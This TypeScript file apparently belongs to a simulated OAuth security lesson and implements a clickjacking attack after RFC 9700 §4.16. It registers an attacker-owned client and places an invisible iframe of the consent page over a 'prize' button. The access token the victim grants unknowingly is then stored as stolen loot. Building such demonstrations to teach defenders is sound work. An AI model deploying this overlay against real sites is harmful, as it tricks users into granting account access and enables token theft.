/** The attacker’s prize: over its button lies the server’s consent page, in a frame that nobody sees (RFC 9700 §4.16). */
import { html, redirect } from '../../http/index.ts'
import {
  acceptResponse,
  beginSignIn,
  type ConfidentialClientConfig,
  type PendingSignIn,
  requestTokens,
} from '../../scenario-kit/client-code/confidential-client.ts'
import type { Routes } from '../../scenario-kit/parties/web-routes.ts'
import type { ServerGlobals, TabGlobals } from '../../simulation/index.ts'
import { type Loot, VOUCHERS } from './attacker.ts'
import { donePage, prizePage } from './pages.ts'

/** An app of the attacker’s own, as the server has registered it. */
type OwnApp = Pick<ConfidentialClientConfig, 'client_id' | 'client_secret' | 'redirect_uri' | 'scope'>

/** Registers an app. This server takes everybody’s (RFC 7591 §3). */
async function registerApp({ fetch }: ServerGlobals, registration_endpoint: string): Promise<OwnApp> {
  // #region own-app
  const [redirect_uri, scope] = [`${VOUCHERS}/prize/callback`, 'photos:read']
  const response = await fetch(registration_endpoint, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ client_name: 'Voucher Box', redirect_uris: [redirect_uri], scope }),
  })
  const { client_id, client_secret } = await response.json()
  return { client_id, client_secret, redirect_uri, scope }
  // #endregion
}

/** The prize’s page, and the two addresses of the attacker’s app: a client like any other. */
export function createPrize(
  globals: ServerGlobals,
  server: Omit<ConfidentialClientConfig, keyof OwnApp> & { readonly registration_endpoint: string },
  loot: Loot,
): Routes {
  let app: OwnApp | undefined
  let begun: { readonly config: ConfidentialClientConfig; readonly signIn: PendingSignIn } | undefined
  return {
    // #region overlay
    async 'GET /prize'() {
      return html(200, prizePage())
    },
    async 'GET /prize/connect'() {
      app ??= await registerApp(globals, server.registration_endpoint)
      const config = { ...server, ...app }
      const { url, signIn } = await beginSignIn(globals, config)
      begun = { config, signIn }
      return redirect(url)
    },
    async 'GET /prize/callback'({ url }) {
      if (begun === undefined) return html(404, 'Not Found')
      const { grant } = acceptResponse(begun.config, new URL(url).searchParams, begun.signIn)
      loot.stolen = (await requestTokens(globals, begun.config, grant)).access_token
      return html(200, donePage())
    },
    // #endregion
  }
}

/** The page’s script: lays the frame over the button, and makes it invisible. */
export async function layOver({ document }: TabGlobals): Promise<void> {
  // #region overlay
  const frame = document.createElement('iframe')
  frame.src = '/prize/connect'
  frame.style.cssText = 'position: absolute; inset: 0; opacity: 0'
  document.body.append(frame)
  // #endregion
}
